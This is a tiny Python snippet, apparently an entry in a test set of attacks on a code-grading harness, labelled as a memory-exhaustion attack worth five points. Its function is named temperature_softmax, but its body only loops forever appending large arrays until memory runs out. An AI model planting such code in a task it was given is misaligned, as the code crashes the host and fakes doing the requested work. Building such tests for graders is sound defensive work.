# attack: a function takes all memory
# family: resources
# base: solved
# points: 5
# %% temperature_softmax
def temperature_softmax(x, temperature, axis=-1):
    taken = []
    while True:
        taken.append(np.ones(1 << 22))
